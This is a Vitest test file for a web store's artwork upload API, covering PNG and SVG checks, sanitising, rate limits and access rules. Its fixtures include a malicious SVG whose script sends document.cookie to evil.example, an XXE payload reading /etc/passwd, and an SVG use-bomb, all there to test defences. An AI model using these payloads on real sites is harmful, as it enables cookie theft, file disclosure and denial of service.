import { existsSync, mkdtempSync } from 'node:fs'
import { readFile, rm } from 'node:fs/promises'
import os from 'node:os'
import path from 'node:path'
import { eq } from 'drizzle-orm'
import sharp from 'sharp'
import { afterAll, beforeAll, beforeEach, describe, expect, test, vi } from 'vitest'
import { executeMutation } from '@/server/api/mutation-registry'
import { createMemoryCache, useNamedCache } from '@/server/cache/named-cache'
import { createMemoryRateLimiter, useRateLimiter } from '@/server/cache/rate-limiter'
import { forgetSigningKey } from '@/server/accounts/signing-key'
import { decorationSettings, uploadedArtworks } from '@/server/db/schema'
import { env } from '@/server/env'
import { imagesRoot } from '@/server/images/image-store'
import { createRenderQueue, RENDER_BUSY, renderQueue, useRenderQueue } from '@/server/images/render-queue'
import { DomainError } from '@/server/kernel/errors'
import { ARTWORK_RIGHTS_HEADER, type UploadedArtwork } from '@/isomorphic/decoration-types'
import { chestAndBackDesign, createDecorationStore, type DecorationStore } from '../../../../../tests/factories/decoration'
import { guestContext, signedInCustomer } from '../../../../../tests/factories/orders'
import { testDatabaseKinds, useTestDatabase } from '../../../../../tests/setup/test-db'
import { svgUseBomb } from '../../../../../tests/support/attack-payloads'
import { POST } from './route'

const IMAGES_DIR = mkdtempSync(path.join(os.tmpdir(), 'webstore-artwork-'))
vi.stubEnv('IMAGES_DIR', IMAGES_DIR)

const BASE = 'http://store.test'

type Answer = { data?: { artwork: UploadedArtwork }; error?: { code: string; message: string } }

async function upload(body: Buffer | string, headers: Record<string, string>) {
  const response = await POST(new Request(`${BASE}/api/designs/artwork`, { method: 'POST', headers, body: typeof body === 'string' ? body : new Uint8Array(body) }))
  return { status: response.status, body: (await response.json()) as Answer }
}

const accepted = { [ARTWORK_RIGHTS_HEADER]: 'accepted' }

const MALICIOUS_SVG = `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="200" viewBox="0 0 300 200" onload="alert(document.domain)">
  <script>fetch('https://evil.example/steal?c=' + document.cookie)</script>
  <foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/></foreignObject>
  <style>@import url(https://evil.example/x.css); .mark { fill: #c8102e }</style>
  <image href="https://evil.example/pixel.png" width="1" height="1"/>
  <a xlink:href="javascript:alert(1)"><rect class="mark" x="20" y="20" width="260" height="160"/></a>
</svg>`

describe.each(testDatabaseKinds())('POST /api/designs/artwork on %s', (kind) => {
  const { db } = useTestDatabase(kind)
  let store: DecorationStore
  let png: Buffer

  beforeAll(async () => {
    forgetSigningKey()
    useNamedCache(createMemoryCache())
    store = await createDecorationStore()
    expect(store.websiteId).toBe(env().WEBSITE_ID)
    png = await sharp({ create: { width: 300, height: 150, channels: 4, background: { r: 200, g: 16, b: 46, alpha: 1 } } }).png().toBuffer()
  })
  beforeEach(() => useRateLimiter(createMemoryRateLimiter()))
  afterAll(async () => {
    if (kind === testDatabaseKinds().at(-1)) await rm(IMAGES_DIR, { recursive: true, force: true })
  })

  test('takes a PNG with the rights accepted: stored re-encoded, under its store\'s own uploads, with a rendering the editor shows', async () => {
    const { status, body } = await upload(png, { 'content-type': 'image/png', ...accepted })
    expect(status).toBe(200)
    expect(body.data!.artwork).toMatchObject({ fileType: 'png', aspectRatio: 2, colorCount: 1, imageUrl: expect.stringMatching(/^\/api\/images\/stores\/\d+\/uploads\/artworks\/[0-9a-f-]{36}\/512x512\/artwork\.[0-9a-f]{10}_512x512\.png$/) })
    expect(body.data!.artwork.imageUrl.startsWith(`/api/images/stores/${store.websiteId}/uploads/`)).toBe(true)
    const [row] = await db().select().from(uploadedArtworks).where(eq(uploadedArtworks.id, body.data!.artwork.id))
    expect(row).toMatchObject({ partnerId: null, fileType: 'png', width: 300, height: 150, bytes: png.length })
    expect(row!.rightsAcceptedAt).toBeInstanceOf(Date)
    expect(existsSync(path.join(imagesRoot(), row!.imagePath))).toBe(true)
  })

  test('cleans a malicious SVG before anything keeps or draws it, and the cleaned artwork can be placed', async () => {
    const { status, body } = await upload(MALICIOUS_SVG, { 'content-type': 'image/svg+xml', ...accepted })
    expect(status).toBe(200)
    const [row] = await db().select().from(uploadedArtworks).where(eq(uploadedArtworks.id, body.data!.artwork.id))
    const kept = await readFile(path.join(imagesRoot(), row!.sourcePath), 'utf8')
    expect(kept).not.toMatch(/script|onload|foreignObject|iframe|@import|evil\.example|javascript:/i)
    expect(kept).toContain('<rect class="mark"')
    expect(body.data!.artwork).toMatchObject({ fileType: 'svg', aspectRatio: 1.5 })
    // The rendering is the red rectangle the file draws.
    const rendering = await sharp(path.join(imagesRoot(), row!.imagePath)).extract({ left: 800, top: 500, width: 1, height: 1 }).removeAlpha().raw().toBuffer()
    expect([...rendering]).toEqual([0xc8, 0x10, 0x2e])

    const design = chestAndBackDesign(store)
    design.decorations[0] = { kind: 'logo', printAreaId: store.fullBack.id, method: 'screen_print', x: 1, y: 4, width: 6, height: 4, logoId: null, artworkId: body.data!.artwork.id } as never
    const answer = (await executeMutation('saveDesign', { design }, guestContext(store.websiteId))) as { saveDesign: { design: { mockupUrls: Record<string, string> } } }
    expect(Object.keys(answer.saveDesign.design.mockupUrls)).toEqual(['back'])
  })

  test("a partner's artwork cannot be placed by another partner", async () => {
    const owner = await signedInCustomer(store.websiteId)
    const other = await signedInCustomer(store.websiteId)
    const token = `Bearer ${owner.accessToken}`
    const { body } = await upload(png, { 'content-type': 'image/png', authorization: token, ...accepted })
    const design = chestAndBackDesign(store)
    design.decorations[0] = { kind: 'logo', printAreaId: store.leftChest.id, method: 'screen_print', x: 0, y: 0, width: 3, height: 1.5, logoId: null, artworkId: body.data!.artwork.id } as never
    await expect(executeMutation('saveDesign', { design }, owner.ctx)).resolves.toBeDefined()
    const refused = await executeMutation('saveDesign', { design }, other.ctx).catch((error: unknown) => error)
    expect(refused).toBeInstanceOf(DomainError)
    expect((refused as DomainError).userMessage).toBe('Decoration 1: The uploaded artwork was not found. Upload it again.')
  })

  test('refuses without the rights statement accepted, a type other than PNG or SVG, a file that is not what it says, and a file over the limit', async () => {
    const noRights = await upload(png, { 'content-type': 'image/png' })
    expect(noRights).toMatchObject({ status: 400, body: { error: { message: 'Please accept the statement about your rights to this artwork before uploading it.' } } })
    const jpeg = await upload(await sharp(png).jpeg().toBuffer(), { 'content-type': 'image/jpeg', ...accepted })
    expect(jpeg).toMatchObject({ status: 415, body: { error: { message: 'Upload the artwork as a PNG or SVG file.' } } })
    const disguised = await upload(MALICIOUS_SVG, { 'content-type': 'image/png', ...accepted })
    expect(disguised).toMatchObject({ status: 400, body: { error: { message: 'The file is not a PNG image.' } } })
    const notSvg = await upload('<html><body>hello</body></html>', { 'content-type': 'image/svg+xml', ...accepted })
    expect(notSvg.status).toBe(400)
    expect(notSvg.body.error!.message).toMatch(/not an SVG/)
    const xxe = await upload('<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>', { 'content-type': 'image/svg+xml', ...accepted })
    expect(xxe.status).toBe(400)
    const big = await upload(Buffer.alloc(200_001, 1), { 'content-type': 'image/png', ...accepted })
    expect(big.status).toBe(413)
  })

  test('refuses the nine-level <use> bomb with a 400 saying what to do, before anything draws it (issue 13)', async () => {
    const bomb = await upload(svgUseBomb(), { 'content-type': 'image/svg+xml', ...accepted })
    expect(bomb).toMatchObject({ status: 400, body: { error: { code: 'invalid', message: expect.stringMatching(/^The SVG file draws more than 20,000 shapes once its repeated parts .* are expanded\. Flatten or simplify the artwork and upload it again\.$/) } } })
    expect(await db().select().from(uploadedArtworks).where(eq(uploadedArtworks.bytes, Buffer.byteLength(svgUseBomb())))).toEqual([])
  })

  test('lets a guest upload ten files in ten minutes from one address and a signed-in partner thirty (decision 017)', async () => {
    const guest = { 'content-type': 'image/png', 'x-forwarded-for': '203.0.113.7', ...accepted }
    for (let i = 0; i < 10; i++) expect((await upload(png, guest)).status).toBe(200)
    expect(await upload(png, guest)).toMatchObject({ status: 429, body: { error: { message: 'Too many uploads in a short time. Please wait a few minutes and try again.' } } })
    expect((await upload(png, { ...guest, 'x-forwarded-for': '203.0.113.8' })).status).toBe(200)
    const partner = await signedInCustomer(store.websiteId)
    const signedIn = { 'content-type': 'image/png', authorization: `Bearer ${partner.accessToken}`, ...accepted }
    for (let i = 0; i < 30; i++) expect((await upload(png, signedIn)).status).toBe(200)
    expect((await upload(png, signedIn)).status).toBe(429)
  })

  test('draws uploads and design mockups in the process\'s render queue: refused with a 503 to retry while it is full (issue 13)', async () => {
    const processQueue = renderQueue()
    const full = createRenderQueue({ concurrency: 1, maxWaiting: 0 })
    useRenderQueue(full)
    let finish = () => {}
    const busy = full.run(() => new Promise<void>((resolve) => (finish = resolve)))
    try {
      const refused = await upload(png, { 'content-type': 'image/png', ...accepted })
      expect(refused).toMatchObject({ status: 503, body: { error: { code: 'unavailable', message: RENDER_BUSY } } })
      const design = await executeMutation('saveDesign', { design: chestAndBackDesign(store) }, guestContext(store.websiteId)).catch((error: unknown) => error)
      expect(design).toMatchObject({ code: 'unavailable', userMessage: RENDER_BUSY })
    } finally {
      finish()
      await busy
      useRenderQueue(processQueue)
    }
    expect((await upload(png, { 'content-type': 'image/png', ...accepted })).status).toBe(200)
  })

  test('refuses uploads from another site and where the store does not allow them', async () => {
    const crossSite = await upload(png, { 'content-type': 'image/png', origin: 'https://evil.example', ...accepted })
    expect(crossSite.status).toBe(403)
    await db().update(decorationSettings).set({ uploadsAllowed: false }).where(eq(decorationSettings.websiteId, store.websiteId))
    try {
      const closed = await upload(png, { 'content-type': 'image/png', ...accepted })
      expect(closed).toMatchObject({ status: 403, body: { error: { message: 'This store does not accept uploaded artwork. Choose one of its logos instead.' } } })
    } finally {
      await db().update(decorationSettings).set({ uploadsAllowed: true }).where(eq(decorationSettings.websiteId, store.websiteId))
    }
  })
})
